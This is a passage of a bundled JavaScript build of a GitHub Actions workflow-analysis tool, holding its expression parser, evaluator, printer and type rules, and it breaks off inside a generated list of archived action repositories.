function isCollection(value) {
    return typeof value === "object" && value !== null;
}
function isTruthy(value) {
    return (isCollection(value) || (value !== null && value !== false && value !== 0 && value !== "" && !Number.isNaN(value)));
}
/** @see Evaluate expressions in workflows and actions, "Literals" and "Operators": how values become numbers */
function toNumber(value) {
    if (value === null)
        return 0;
    if (typeof value === "boolean")
        return value ? 1 : 0;
    if (typeof value === "string")
        return parseNumber(value);
    return typeof value === "number" ? value : Number.NaN;
}
/** The text that a value expands to. */
function toText(value) {
    if (value === null)
        return "";
    if (isCollection(value))
        return Array.isArray(value) ? "Array" : "Object";
    return typeof value === "number" ? numberText(value) : String(value);
}
/** Fifteen significant digits, as .NET's "G15" has them: `0.1`, `1E-05`, `1.5E+21`. */
function numberText(value) {
    if (value === 0)
        return "0";
    if (!Number.isFinite(value))
        return String(value);
    const [digits, exponent] = value.toExponential(14).split("e");
    const power = Number(exponent);
    if (power >= -4 && power < 15)
        return String(Number(value.toPrecision(15)));
    const magnitude = String(Math.abs(power)).padStart(2, "0");
    return `${Number(digits)}E${power < 0 ? "-" : "+"}${magnitude}`;
}
/**
 * Upper case one character at a time, as .NET's ordinal comparison does it: the dotless i and the long s stay what they
 * are, and no character becomes two.
 */
function upper(text) {
    const raised = text.toUpperCase();
    // No character's upper case is shorter than itself, so equal lengths mean that none became two.
    if (raised.length === text.length && !/[ıſ]/.test(text))
        return raised;
    return Array.from(text, upperCharacter).join("");
}
function upperCharacter(char) {
    const raised = char.toUpperCase();
    return raised.length === char.length && char !== "ı" && char !== "ſ" ? raised : char;
}
/** Loose equality: strings without regard to case, different types as numbers, collections only when they are the same one. */
function areEqual(a, b) {
    if (isCollection(a) || isCollection(b))
        return a === b;
    if (typeof a === "string" && typeof b === "string")
        return upper(a) === upper(b);
    if (typeof a === typeof b && a !== null && b !== null)
        return a === b;
    if (a === null && b === null)
        return true;
    return toNumber(a) === toNumber(b);
}
/** Negative, zero or positive; NaN when the values can't be compared, which makes every comparison false. */
function compare(a, b) {
    if (typeof a === "string" && typeof b === "string") {
        const [left, right] = [upper(a), upper(b)];
        return left < right ? -1 : left > right ? 1 : 0;
    }
    const [left, right] = [toNumber(a), toNumber(b)];
    if (Number.isNaN(left) || Number.isNaN(right))
        return Number.NaN;
    return left < right ? -1 : left > right ? 1 : 0;
}
/** Levels of arrays and objects in JSON. Real contexts have fewer than ten. */
const MAX_JSON_DEPTH = 100;
/** Reads JSON as `fromJSON` does; undefined when it is none, or nested too deeply to walk. */
function fromJson(text) {
    try {
        return fromPlain(JSON.parse(text), 0);
    }
    catch {
        return undefined;
    }
}
function fromPlain(plain, depth) {
    if (depth > MAX_JSON_DEPTH)
        throw new RangeError("nested too deeply");
    if (Array.isArray(plain))
        return plain.map((item) => fromPlain(item, depth + 1));
    if (typeof plain === "object" && plain !== null) {
        return new ObjectValue(new Map(Object.entries(plain).map(([key, value]) => [key, fromPlain(value, depth + 1)])));
    }
    return plain;
}
/** Writes JSON as `toJSON` does: two spaces a level. */
function toJson(value, indent = "") {
    const inner = `${indent}  `;
    if (value instanceof ObjectValue) {
        if (value.entries.size === 0)
            return "{}";
        const lines = [...value.entries].map(([key, item]) => `${inner}${JSON.stringify(key)}: ${toJson(item, inner)}`);
        return `{\n${lines.join(",\n")}\n${indent}}`;
    }
    if (isCollection(value)) {
        if (value.length === 0)
            return "[]";
        return `[\n${value.map((item) => inner + toJson(item, inner)).join(",\n")}\n${indent}]`;
    }
    return typeof value === "number" ? numberText(value) : JSON.stringify(value);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/functions.js

/**
 * The longest text that a function gives here, in UTF-16 code units. Each `format` in a `format` can multiply a text's
 * length, so that a short expression could ask for more memory than there is; GitHub stops such a run, too.
 */
const MAX_TEXT = 100_000;
/** The functions that depend on nothing but what they are given. Undefined when the call has no value (the run would fail). */
function callFunction(name, args) {
    const [first, second] = args;
    if (first === undefined)
        return undefined;
    switch (name) {
        case "contains":
            return second === undefined ? undefined : contains(first, second);
        case "startswith":
            return second === undefined ? undefined : testText(first, second, (text, part) => text.startsWith(part));
        case "endswith":
            return second === undefined ? undefined : testText(first, second, (text, part) => text.endsWith(part));
        case "format":
            return format(toText(first), args.slice(1));
        case "join":
            return join(first, second === undefined || isCollection(second) ? "," : toText(second));
        case "tojson":
            return bounded(toJson(first));
        case "fromjson":
            return fromJson(toText(first));
        default:
            return undefined;
    }
}
function contains(haystack, needle) {
    if (Array.isArray(haystack))
        return haystack.some((item) => areEqual(item, needle));
    return testText(haystack, needle, (text, part) => text.includes(part));
}
function testText(a, b, test) {
    if (isCollection(a) || isCollection(b))
        return false;
    return test(upper(toText(a)), upper(toText(b)));
}
function bounded(text) {
    return text.length <= MAX_TEXT ? text : undefined;
}
function join(value, separator) {
    if (!Array.isArray(value))
        return isCollection(value) ? "" : toText(value);
    let result = "";
    for (const [i, item] of value.entries()) {
        result += i === 0 ? toText(item) : separator + toText(item);
        if (result.length > MAX_TEXT)
            return undefined;
    }
    return result;
}
/** `{0}` stands for an argument, `{{` and `}}` for braces; anything else in braces fails the run. */
function format(template, args) {
    let result = "";
    for (let i = 0; i < template.length; i++) {
        const char = template[i];
        if ((char === "{" || char === "}") && template[i + 1] === char) {
            result += char;
            i++;
        }
        else if (char === "{") {
            const close = template.indexOf("}", i);
            const digits = close === -1 ? "" : template.slice(i + 1, close);
            const arg = /^\d{1,3}$/.test(digits) ? args[Number(digits)] : undefined;
            if (arg === undefined)
                return undefined;
            result += toText(arg);
            if (result.length > MAX_TEXT)
                return undefined;
            i = close;
        }
        else if (char === "}")
            return undefined;
        else
            result += char;
    }
    return result;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/evaluate.js



const UNKNOWN = { known: false };
const NOTHING_KNOWN = { lookup: () => UNKNOWN };
function known(value) {
    return { known: true, value };
}
/** A value of which only the shape is known; none that has one is falsy. */
function shaped(shape) {
    return { known: false, truthy: true, shape };
}
/** True, false, or undefined when it may be either. */
function truthiness(result) {
    return result.known ? isTruthy(result.value) : result.truthy;
}
/**
 * Evaluates an expression as the runner does, as far as what is known goes: `false && unknown` is false, `unknown || true`
 * is true, `unknown && false` is something falsy.
 *
 * @see Evaluate expressions in workflows and actions
 */
function evaluate(expression, options) {
    switch (expression.kind) {
        case "literal":
            return known(expression.value);
        case "not":
            return negated(evaluate(expression.operand, options));
        case "logical":
            return logical(expression, options);
        case "binary":
            return binary(expression, options);
        case "call":
            return call(expression, options);
        default:
            return access(expression, options);
    }
}
function negated(result) {
    const truthy = truthiness(result);
    return truthy === undefined ? UNKNOWN : known(!truthy);
}
function logical({ operator, left, right }, options) {
    const first = evaluate(left, options);
    const truthy = truthiness(first);
    // `&&` gives its left side where that is falsy, `||` where it is truthy.
    const endsHere = operator === "||";
    if (truthy === endsHere)
        return first;
    const second = evaluate(right, options);
    if (truthy !== undefined)
        return second;
    return truthiness(second) === endsHere ? { known: false, truthy: endsHere } : UNKNOWN;
}
function binary({ operator, left, right }, options) {
    const a = evaluate(left, options);
    const b = evaluate(right, options);
    if (operator === "==")
        return answered(equality(a, b));
    if (operator === "!=")
        return negated(answered(equality(a, b)));
    if (!a.known || !b.known)
        return UNKNOWN;
    switch (operator) {
        case "<":
            return known(compare(a.value, b.value) < 0);
        case "<=":
            return known(areEqual(a.value, b.value) || compare(a.value, b.value) < 0);
        case ">":
            return known(compare(a.value, b.value) > 0);
        default:
            return known(areEqual(a.value, b.value) || compare(a.value, b.value) > 0);
    }
}
function answered(answer) {
    return answer === undefined ? UNKNOWN : known(answer);
}
function equality(a, b) {
    if (a.known)
        return b.known ? areEqual(a.value, b.value) : b.shape?.equals(a.value);
    return b.known ? a.shape?.equals(b.value) : undefined;
}
function call({ name, args }, options) {
    if (name === "case")
        return caseOf(args, options);
    const values = args.map((arg) => evaluate(arg, options));
    const special = options.functions?.(name, values);
    if (special)
        return special;
    const test = testOfShape(name, values);
    if (test !== undefined)
        return known(test);
    const plain = [];
    for (const value of values) {
        if (!value.known)
            return UNKNOWN;
        plain.push(value.value);
    }
    const result = callFunction(name, plain);
    return result === undefined ? UNKNOWN : known(result);
}
/** A test of a value of which only the shape is known, as far as that tells. */
function testOfShape(name, [first, second]) {
    if (!first || !second)
        return undefined;
    if (first.known)
        return name === "contains" && isMissing(first.value, second) ? false : undefined;
    const { shape } = first;
    if (!shape || !second.known || isCollection(second.value))
        return undefined;
    const part = toText(second.value);
    switch (name) {
        case "contains":
            return shape.contains(part);
        case "startswith":
            return shape.startsWith(part);
        case "endswith":
            return shape.endsWith(part);
        default:
            return undefined;
    }
}
/** Is a list surely without a value? */
function isMissing(list, item) {
    return !item.known && Array.isArray(list) && list.every((value) => item.shape?.equals(value) === false);
}
/** `case(condition, value, …, default)`: the value of the first condition that is true. A condition must be a boolean. */
function caseOf(args, options) {
    const [first, second, ...others] = args;
    if (!first)
        return UNKNOWN;
    if (!second)
        return evaluate(first, options);
    const condition = evaluate(first, options);
    if (condition.known && typeof condition.value !== "boolean")
        return UNKNOWN;
    const truthy = truthiness(condition);
    if (truthy === true)
        return evaluate(second, options);
    const otherwise = caseOf(others, options);
    return truthy === false ? otherwise : oneOf(evaluate(second, options), otherwise);
}
/** What is sure of a value that is one of two. */
function oneOf(a, b) {
    const truthy = truthiness(a);
    return truthy !== undefined && truthy === truthiness(b) ? { known: false, truthy } : UNKNOWN;
}
function access(expression, options) {
    const path = contextPath(expression);
    if (path?.exact && !path.segments.includes("*")) {
        const found = options.lookup(path.segments);
        if (truthiness(found) !== undefined)
            return found;
    }
    switch (expression.kind) {
        case "property":
            return mapped(evaluate(expression.object, options), (value) => member(value, expression.name));
        case "filter":
            return mapped(evaluate(expression.object, options), filtered);
        case "index": {
            const index = evaluate(expression.index, options);
            const object = evaluate(expression.object, options);
            return index.known ? mapped(object, (value) => memberAt(value, index.value)) : UNKNOWN;
        }
        default:
            return UNKNOWN;
    }
}
function mapped(result, map) {
    return result.known ? known(map(result.value)) : UNKNOWN;
}
/** What a filter gave: an access to it is an access to each of its items. */
class Filtered extends Array {
}
function filtered(value) {
    // A filter of what a filter gave goes one level deeper.
    if (value instanceof Filtered)
        return Filtered.from([...value].flatMap(itemsOf));
    return Filtered.from(itemsOf(value));
}
function itemsOf(value) {
    if (value instanceof ObjectValue)
        return [...value.entries.values()];
    return Array.isArray(value) ? value : [];
}
function member(value, name) {
    const read = (object) => (object instanceof ObjectValue ? object.get(name) : undefined);
    return value instanceof Filtered ? eachOf(value, read) : (read(value) ?? null);
}
function memberAt(value, index) {
    return value instanceof Filtered ? eachOf(value, (item) => itemAt(item, index)) : (itemAt(value, index) ?? null);
}
/** What an access gives for each item, without those that have nothing there. */
function eachOf(items, read) {
    const found = new Filtered();
    for (const item of items) {
        const value = read(item);
        if (value !== undefined)
            found.push(value);
    }
    return found;
}
/** An object's value by its key, an array's item by its number, whatever type the index has. */
function itemAt(value, index) {
    if (isCollection(index))
        return undefined;
    if (value instanceof ObjectValue)
        return value.get(toText(index));
    if (!Array.isArray(value))
        return undefined;
    const number = Math.floor(toNumber(index));
    return number >= 0 ? value[number] : undefined;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/arity.js
/** How many arguments functions take: the least and the most. */
const ARITIES = new Map([
    ["case", [3, 255]],
    ["contains", [2, 2]],
    ["endswith", [2, 2]],
    ["format", [1, 255]],
    ["fromjson", [1, 1]],
    ["hashfiles", [1, 255]],
    ["join", [1, 2]],
    ["startswith", [2, 2]],
    ["tojson", [1, 1]],
]);
/**
 * What is wrong with a call of a function with so many arguments, to go on after its name; undefined when nothing is, or
 * when the function isn't known here.
 *
 * @param name in lower case
 * @see actions/runner, `ExpressionConstants` and `ExpressionParser`: GitHub refuses the workflow
 */
function checkArity(name, count) {
    const arity = ARITIES.get(name);
    if (!arity)
        return undefined;
    const [least, most] = arity;
    if (count < least || count > most)
        return `takes ${rangeText(least, most)}, not ${count}`;
    if (name === "case" && count % 2 === 0)
        return `takes an odd number of arguments, not ${count}: the last is the default`;
    return undefined;
}
function rangeText(least, most) {
    if (least === most)
        return `${least} argument${least === 1 ? "" : "s"}`;
    return `${least} to ${most} arguments`;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/parser.js


/** GitHub's own limits (actions/runner, `ExpressionConstants`). */
const MAX_DEPTH = 50;
const MAX_LENGTH = 21_000;
/** Operands of one chain (`a || b || …`): it becomes a tree as deep, which everything walks. */
const MAX_CHAIN = 500;
/**
 * Parses an expression, without its fence.
 *
 * @param base added to all offsets: where `text` begins in whatever holds it
 * @see Evaluate expressions in workflows and actions, "Operators" for what binds closer
 */
function parseExpression(text, base = 0) {
    try {
        if (text.length > MAX_LENGTH) {
            throw new ExpressionError(`it is longer than the ${MAX_LENGTH} characters that GitHub reads`, 0, text.length);
        }
        return { ok: true, expression: new Parser(new Lexer(text), base).parse() };
    }
    catch (error) {
        if (!(error instanceof ExpressionError))
            throw error;
        return { ok: false, error: { message: error.message, start: error.start + base, end: error.end + base } };
    }
}
const CONSTANTS = new Map([
    ["true", true],
    ["false", false],
    ["null", null],
    ["NaN", Number.NaN],
    ["Infinity", Number.POSITIVE_INFINITY],
]);
/** One method a level of precedence, the loosest first; each leaves the lexer at the first token that isn't its own. */
class Parser {
    lexer;
    base;
    depth = 0;
    constructor(lexer, base) {
        this.lexer = lexer;
        this.base = base;
    }
    parse() {
        if (this.isAt("end"))
            throw new ExpressionError("the expression is empty", 0, this.lexer.end);
        const expression = this.nested();
        if (!this.isAt("end"))
            throw this.unexpected();
        return expression;
    }
    isAt(kind) {
        return this.lexer.kind === kind;
    }
    /** A whole expression one level deeper: hostile input ends in an error here instead of an exhausted stack. */
    nested() {
        this.descend();
        const expression = this.or();
        this.depth--;
        return expression;
    }
    or() {
        let left = this.and();
        if (!this.isAt("||"))
            return left;
        this.descend();
        for (let count = 1; this.isAt("||"); count++) {
            this.limitChain(count);
            this.lexer.next();
            const right = this.and();
            left = { kind: "logical", operator: "||", left, right, start: left.start, end: right.end };
        }
        this.depth--;
        return left;
    }
    and() {
        let left = this.equality();
        if (!this.isAt("&&"))
            return left;
        this.descend();
        for (let count = 1; this.isAt("&&"); count++) {
            this.limitChain(count);
            this.lexer.next();
            const right = this.equality();
            left = { kind: "logical", operator: "&&", left, right, start: left.start, end: right.end };
        }
        this.depth--;
        return left;
    }
    equality() {
        let left = this.comparison();
        for (let count = 1; isEquality(this.lexer.kind); count++) {
            const operator = this.takeComparison(count);
            const right = this.comparison();
            left = { kind: "binary", operator, left, right, start: left.start, end: right.end };
        }
        return left;
    }
    comparison() {
        let left = this.unary();
        for (let count = 1; isOrdering(this.lexer.kind); count++) {
            const operator = this.takeComparison(count);
            const right = this.unary();
            left = { kind: "binary", operator, left, right, start: left.start, end: right.end };
        }
        return left;
    }
    takeComparison(count) {
        this.limitChain(count);
        const operator = this.lexer.kind;
        this.lexer.next();
        return operator;
    }
    unary() {
        if (!this.isAt("!"))
            return this.access();
        const start = this.lexer.start + this.base;
        this.lexer.next();
        this.descend();
        const operand = this.unary();
        this.depth--;
        return { kind: "not", operand, start, end: operand.end };
    }
    access() {
        const isGroup = this.isAt("(");
        let object = this.primary();
        // `'text'.name` is no access, `('text').name` is one.
        if (object.kind === "literal" && !isGroup)
            return object;
        const { depth } = this;
        while (this.isAt(".") || this.isAt("[")) {
            object = this.isAt(".") ? this.property(object) : this.index(object);
            this.descend();
        }
        this.depth = depth;
        return object;
    }
    property(object) {
        const { lexer } = this;
        lexer.next();
        const { start } = object;
        const end = lexer.end + this.base;
        if (lexer.kind === "name") {
            const name = lexer.text.toLowerCase();
            lexer.next();
            return { kind: "property", object, name, start, end };
        }
        if (lexer.kind !== "*")
            throw this.unexpected("a name");
        lexer.next();
        return { kind: "filter", object, start, end };
    }
    index(object) {
        this.lexer.next();
        const { start } = object;
        if (this.isAt("*")) {
            this.lexer.next();
            return { kind: "filter", object, start, end: this.take("]") };
        }
        const index = this.nested();
        return { kind: "index", object, index, start, end: this.take("]") };
    }
    primary() {
        const { lexer } = this;
        const start = lexer.start + this.base;
        const end = lexer.end + this.base;
        switch (lexer.kind) {
            case "name": {
                const written = lexer.text;
                lexer.next();
                return this.isAt("(") ? this.call(written, start) : named(written, start, end);
            }
            case "string":
            case "number": {
                const value = lexer.kind === "string" ? lexer.text : lexer.number;
                lexer.next();
                return { kind: "literal", value, start, end };
            }
            case "(":
                return this.group(start);
            default:
                throw this.unexpected("a value");
        }
    }
    /** The parentheses belong to the place of what they hold. */
    group(start) {
        this.lexer.next();
        const inner = this.nested();
        inner.start = start;
        inner.end = this.take(")");
        return inner;
    }
    call(written, start) {
        const name = written.toLowerCase();
        const args = [];
        this.lexer.next();
        while (!this.isAt(")")) {
            if (args.length > 0)
                this.take(",");
            args.push(this.nested());
        }
        const end = this.take(")");
        const problem = checkArity(name, args.length);
        if (problem)
            throw new ExpressionError(`\`${written}\` ${problem}`, start - this.base, end - this.base);
        return { kind: "call", name, written, args, start, end };
    }
    /** Goes past a token that has to be there; gives its end. */
    take(kind) {
        const { lexer } = this;
        if (lexer.kind !== kind)
            throw this.unexpected(`\`${kind}\``);
        const end = lexer.end + this.base;
        lexer.next();
        return end;
    }
    unexpected(wanted) {
        const { kind, start, end } = this.lexer;
        const what = kind === "end" ? "the expression ends" : "something else stands here";
        const message = wanted ? `${wanted} is expected, but ${what}` : "an operator is expected here";
        return new ExpressionError(message, start, end);
    }
    descend() {
        if (++this.depth <= MAX_DEPTH)
            return;
        const { start, end } = this.lexer;
        throw new ExpressionError(`it is nested deeper than the ${MAX_DEPTH} levels that GitHub reads`, start, end);
    }
    limitChain(count) {
        if (count <= MAX_CHAIN)
            return;
        const { start, end } = this.lexer;
        throw new ExpressionError(`it has more than ${MAX_CHAIN} parts in a row`, start, end);
    }
}
function isEquality(kind) {
    return kind === "==" || kind === "!=";
}
function isOrdering(kind) {
    return kind === "<" || kind === "<=" || kind === ">" || kind === ">=";
}
function named(written, start, end) {
    const value = CONSTANTS.get(written);
    if (value !== undefined)
        return { kind: "literal", value, start, end };
    return { kind: "context", name: written.toLowerCase(), start, end };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/find.js

/** Every `${{ … }}` of a text. A `}}` inside a string of the expression closes nothing (actions/runner, `TemplateReader`). */
function findExpressions(value) {
    const found = [];
    for (let start = value.indexOf("${{"); start !== -1;) {
        const bodyStart = start + 3;
        const close = closingFence(value, bodyStart);
        const bodyEnd = close === -1 ? value.length : close;
        const end = close === -1 ? value.length : close + 2;
        found.push({ start, end, bodyStart, bodyEnd, body: value.slice(bodyStart, bodyEnd), terminated: close !== -1 });
        start = value.indexOf("${{", end);
    }
    return found;
}
function closingFence(value, from) {
    const first = value.indexOf("}}", from);
    const quote = value.indexOf("'", from);
    if (first === -1 || quote === -1 || quote > first)
        return first;
    let isInString = false;
    for (let i = from; i < value.length; i++) {
        const code = value.charCodeAt(i);
        if (code === 39)
            isInString = !isInString;
        else if (code === 125 && !isInString && value.charCodeAt(i + 1) === 125)
            return i;
    }
    return -1;
}
/** @see Workflow syntax for GitHub Actions, `jobs.<job_id>.if`: the fence may be left out */
function parseCondition(value) {
    const fences = findExpressions(value);
    const [first] = fences;
    if (!first)
        return parsed(value, 0, false);
    const isAlone = fences.length === 1 && first.start === 0 && first.end === value.length;
    return isAlone ? parsed(first.body, first.bodyStart, true) : { kind: "text", fences };
}
function parsed(body, base, fenced) {
    const result = parseExpression(body, base);
    return result.ok
        ? { kind: "expression", expression: result.expression, fenced }
        : { kind: "broken", ...result.error };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/print.js
/** How closely an operator binds; operands that bind less closely need parentheses. */
const LEVELS = {
    "||": 1,
    "&&": 2,
    "==": 3,
    "!=": 3,
    "<": 4,
    "<=": 4,
    ">": 4,
    ">=": 4,
};
const UNARY = 5;
const ACCESS = 6;
/** The canonical text of an expression: one space around operators, no parentheses that change nothing. */
function printExpression(expression) {
    switch (expression.kind) {
        case "literal":
            return printLiteral(expression.value);
        case "context":
            return expression.name;
        case "property":
            return `${within(expression.object, ACCESS)}.${expression.name}`;
        case "filter":
            return `${within(expression.object, ACCESS)}.*`;
        case "index":
            return `${within(expression.object, ACCESS)}[${printExpression(expression.index)}]`;
        case "call":
            return `${expression.written}(${expression.args.map(printExpression).join(", ")})`;
        case "not":
            return `!${within(expression.operand, UNARY)}`;
        default: {
            const level = LEVELS[expression.operator];
            // Operators group from the left, so a right operand of the same level needs parentheses.
            return `${within(expression.left, level)} ${expression.operator} ${within(expression.right, level + 1)}`;
        }
    }
}
function within(expression, level) {
    const text = printExpression(expression);
    return levelOf(expression) < level ? `(${text})` : text;
}
function levelOf(expression) {
    if (expression.kind === "binary" || expression.kind === "logical")
        return LEVELS[expression.operator];
    // No access follows a bare literal: `1.x` is a broken number, and `'a'.x` is refused.
    return expression.kind === "not" || expression.kind === "literal" ? UNARY : ACCESS;
}
function printLiteral(value) {
    if (typeof value === "string")
        return `'${value.replaceAll("'", "''")}'`;
    return Object.is(value, -0) ? "-0" : String(value);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/result-leaves.js

/**
 * The expressions that a result may come from as a whole: both sides of `||`, the right one of `&&`, the values of `case`;
 * without those that what is known rules out.
 */
function resultLeaves(expression, options = NOTHING_KNOWN) {
    if (expression.kind === "call" && expression.name === "case")
        return caseLeaves(expression.args, options);
    if (expression.kind !== "logical")
        return [expression];
    const { operator, left, right } = expression;
    const truthy = truthiness(evaluate(left, options));
    // `a && b` gives `a` only where that is empty, false or zero.
    if (operator === "&&")
        return truthy === false ? [] : resultLeaves(right, options);
    return [
        ...(truthy === false ? [] : resultLeaves(left, options)),
        ...(truthy === true ? [] : resultLeaves(right, options)),
    ];
}
/** `case(condition, value, …, default)`. */
function caseLeaves(args, options) {
    const [condition, value, ...others] = args;
    if (!condition)
        return [];
    if (!value)
        return resultLeaves(condition, options);
    const truthy = truthiness(evaluate(condition, options));
    return [
        ...(truthy === false ? [] : resultLeaves(value, options)),
        ...(truthy === true ? [] : caseLeaves(others, options)),
    ];
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/shape.js

/** Some object: it equals nothing but itself, and is no text. */
const SOME_OBJECT = {
    equals: () => false,
    startsWith: () => false,
    endsWith: () => false,
    contains: () => false,
};
/** `start`, and then at least one character more. */
function textAfter(start) {
    const own = upper(start);
    const isLonger = (part) => part.length > own.length && part.startsWith(own);
    return {
        equals: (other) => shape_equality(other, isLonger),
        startsWith: (part) => sureOr(own.startsWith(upper(part)), isLonger(upper(part))),
        endsWith: (part) => sureOr(part === "", true),
        contains: (part) => sureOr(own.includes(upper(part)), true),
    };
}
/** `start`, a number, `end`. Neither of the two holds a digit. */
function textAroundNumber(start, end) {
    const [head, tail] = [upper(start), upper(end)];
    return {
        equals: (other) => shape_equality(other, (text) => fits(text, (a, b) => a === head && b === tail)),
        startsWith: (part) => sureOr(head.startsWith(upper(part)), fits(upper(part), (a, b) => a === head && tail.startsWith(b))),
        endsWith: (part) => sureOr(tail.endsWith(upper(part)), fits(upper(part), (a, b) => b === tail && head.endsWith(a))),
        contains: (part) => sureOr(head.includes(upper(part)) || tail.includes(upper(part)), fits(upper(part), (a, b) => head.endsWith(a) && tail.startsWith(b))),
    };
}
/** Other types are compared as numbers, and a text may be one. */
function shape_equality(other, mayBe) {
    return typeof other === "string" && !mayBe(upper(other)) ? false : undefined;
}
function sureOr(isSure, isPossible) {
    return isSure || (isPossible ? undefined : false);
}
/** Holds a text one number, and do what stands before and behind it pass? */
function fits(text, around) {
    const [before, behind, ...others] = text.split(/\d+/);
    return before !== undefined && behind !== undefined && others.length === 0 && around(before, behind);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/types.js
const FUNCTION_TYPES = new Map([
    ["always", "boolean"],
    ["cancelled", "boolean"],
    ["contains", "boolean"],
    ["endswith", "boolean"],
    ["failure", "boolean"],
    ["format", "string"],
    ["hashfiles", "string"],
    ["join", "string"],
    ["startswith", "boolean"],
    ["success", "boolean"],
    ["tojson", "string"],
]);
/** Contexts that are there in every run. `matrix`, `strategy` and `inputs` are null where nothing fills them. */
const OBJECTS = new Set(["env", "github", "job", "needs", "runner", "secrets", "steps", "vars"]);
/**
 * The type of an expression's result, where its form alone says it.
 *
 * @see Contexts reference; Evaluate expressions in workflows and actions, "Functions"
 */
function expressionType(expression) {
    switch (expression.kind) {
        case "literal":
            return expression.value === null ? "null" : typeof expression.value;
        case "not":
        case "binary":
            return "boolean";
        case "logical":
            return common(expressionType(expression.left), expressionType(expression.right));
        case "filter":
            return "array";
        case "context":
            return OBJECTS.has(expression.name) ? "object" : "unknown";
        case "call":
            return callType(expression.name, expression.args);
        default:
            return "unknown";
    }
}
function callType(name, args) {
    if (name !== "case")
        return FUNCTION_TYPES.get(name) ?? "unknown";
    // Conditions stand at the even places, the last argument is the default.
    const values = args.filter((_, i) => i % 2 === 1 || i === args.length - 1);
    return values.map(expressionType).reduce(common, expressionType(values[0]));
}
function common(a, b) {
    return a === b ? a : "unknown";
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/expressions/index.js












/***/ }),

/***/ 7949:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {


// EXPORTS
__nccwpck_require__.d(__webpack_exports__, {
  lH: () => (/* binding */ BUILT_IN_FACTS),
  At: () => (/* binding */ Facts),
  $v: () => (/* binding */ defineFacts),
  mw: () => (/* binding */ required)
});

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/knowledge/data.generated.js
// Generated by `npm run generate`: edit its source, not this file.
/** The entries of `data/<name>.json`, by name. */
const DATA = {
    "archived-actions": () => JSON.parse("[{\"repository\":\"8398a7/action-slack\"},{\"repository\":\"actions-rs/audit-check\"},{\"repository\":\"actions-rs/cargo\"},{\"repository\":\"actions-rs/clippy-check\"},{\"repository\":\"actions-rs/components-nightly\"},{\"repository\":\"actions-rs/grcov\"},{\"repository\":\"actions-rs/install\"},{\"repository\":\"actions-rs/tarpaulin\"},{\"repository\":\"actions-rs/toolchain\"},{\"repository\":\"actions/create-release\"},{\"repository\":\"actions/setup-elixir\"},{\"repository\":\"actions/setup-haskell\"},{\"repository\":\"actions/setup-ruby\"},{\"repository\":\"actions/upload-release-asset\"},{\"repository\":\"actionstoolbox/gem-build-and-release-action\"},{\"repository\":\"allanchain/poetry-cache-action\"},{\"repository\":\"andrewmcodes-archive/rubocop-linter-action\"},{\"repository\":\"apidevtools/swagger-cli\"},{\"repository\":\"aquasecurity/cfsec\"},{\"repository\":\"araichev/gtfs_kit\"},{\"repository\":\"artichoke/setup-rust\"},{\"repository\":\"aslafy-z/conventional-pr-title-action\"},{\"repository\":\"asottile-archive/seed-isort-config\"},{\"repository\":\"azure/appconfiguration-sync\"},{\"repository\":\"azure/appservice-actions\"},{\"repository\":\"azure/azure-resource-login-action\"},{\"repository\":\"azure/container-actions\"},{\"repository\":\"azure/container-scan\"},{\"repository\":\"azure/data-factory-deploy-action\"},{\"repository\":\"azure/data-factory-export-action\"},{\"repository\":\"azure/data-factory-validate-action\"},{\"repository\":\"azure/get-keyvault-secrets\"},{\"repository\":\"azure/k8s-actions\"},{\"repository\":\"azure/manage-azure-policy\"},{\"repository\":\"azure/publish-security-assessments\"},{\"repository\":\"azure/run-sqlpackage-action\"},{\"repository\":\"azure/spring-cloud-deploy\"},{\"repository\":\"azure/webapps-container-deploy\"},{\"repository\":\"benmezger/gjira\"},{\"repository\":\"brettcannon/caniusepython3\"},{\"repository\":\"cedrickring/golang-action\"},{\"repository\":\"cirrus-actions/rebase\"},{\"repository\":\"contributor-assistant/github-action\"},{\"repository\":\"convictional/trigger-workflow-and-wait\"},{\"repository\":\"cpcloud/flake-update-action\"},{\"repository\":\"crazy-max/ghaction-docker-buildx\"},{\"repository\":\"crazy-max/ghaction-hugo\"},{\"repository\":\"dariuszporowski/chatgpt-pre-commit-hooks\"},{\"repository\":\"datreeio/datree\"},{\"repository\":\"decathlon/pull-request-labeler-action\"},{\"repository\":\"delaguardo/setup-graalvm\"},{\"repository\":\"dnephin/pre-commit-golang\"},{\"repository\":\"dulvui/godot-android-export\"},{\"repository\":\"elstudio/actions-settings\"},{\"repository\":\"expo/expo-preview-action\"},{\"repository\":\"fabasoad/setup-zizmor-action\"},{\"repository\":\"facebook/pysa-action\"},{\"repository\":\"fregante/release-with-changelog\"},{\"repository\":\"gherynos/pre-commit-java\"},{\"repository\":\"google/mirror-branch-action\"},{\"repository\":\"google/skywater-pdk-actions\"},{\"repository\":\"gradle/gradle-build-action\"},{\"repository\":\"grafana/k6-action\"},{\"repository\":\"gruntwork-io/terraform-aws-couchbase\"},{\"repository\":\"hashicorp/terraform-cdk-action\"},{\"repository\":\"hcodes/yaspeller\"},{\"repository\":\"helaili/github-graphql-action\"},{\"repository\":\"helaili/jekyll-action\"},{\"repository\":\"ilshidur/action-slack\"},{\"repository\":\"irgolic/autopr\"},{\"repository\":\"jakejarvis/backblaze-b2-action\"},{\"repository\":\"jakejarvis/cloudflare-purge-action\"},{\"repository\":\"jakejarvis/firebase-deploy-action\"},{\"repository\":\"jakejarvis/hugo-build-action\"},{\"repository\":\"jakejarvis/lighthouse-action\"},{\"repository\":\"jakejarvis/s3-sync-action\"},{\"repository\":\"jeffa5/typstfmt\"},{\"repository\":\"jimmygchen/runner-fallback-action\"},{\"repository\":\"josephfrazier/prettier_d\"},{\"repository\":\"justinribeiro/lighthouse-action\"},{\"repository\":\"kanadgupta/glitch-sync\"},{\"repository\":\"kxxt/chatgpt-action\"},{\"repository\":\"lapras-inc/resume-sync-action\"},{\"repository\":\"life4/f